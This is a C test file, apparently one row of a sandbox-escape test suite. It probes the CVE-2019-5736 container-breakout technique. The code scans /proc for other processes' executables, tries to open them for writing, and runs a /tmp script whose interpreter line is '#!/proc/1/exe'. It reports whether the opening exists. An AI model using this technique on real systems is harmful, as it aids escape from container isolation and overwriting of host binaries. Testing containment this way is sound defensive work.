// row: F15
// what: the launcher's own program is opened for writing through /proc (CVE-2019-5736)
// control: naive
#include "attack.h"

static int writable(const char *path) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0) close(fd);
    // "Text file busy" ends with the launcher: the right to write was there.
    return fd >= 0 || errno == ETXTBSY;
}
void attack(void) {
    struct stat own, other;
    stat("/proc/self/exe", &own);
    DIR *dir = opendir("/proc");
    if (!dir) cannot("/proc: %s", errno_name());
    char path[300], seen[512] = "";
    for (struct dirent *entry; (entry = readdir(dir));) {
        if (!isdigit(entry->d_name[0])) continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        if (stat(path, &other) == 0 && other.st_ino != own.st_ino && writable(path))
            snprintf(seen + strlen(seen), sizeof seen - strlen(seen), "%s ", path);
    }
    if (*seen) succeeded("%s", seen);
    // Through an interpreter line.
    put("/tmp/script", "#!/proc/1/exe\n");
    chmod("/tmp/script", 0755);
    pid_t pid = fork();
    if (pid == 0) {
        int nothing = open("/dev/null", O_WRONLY);
        dup2(nothing, 1), dup2(nothing, 2);
        execl("/tmp/script", "/tmp/script", NULL);
        _exit(errno == ENOEXEC ? 7 : 0);
    }
    errno = EACCES;
    prevented("no other program can be opened: %s", errno_name());
}
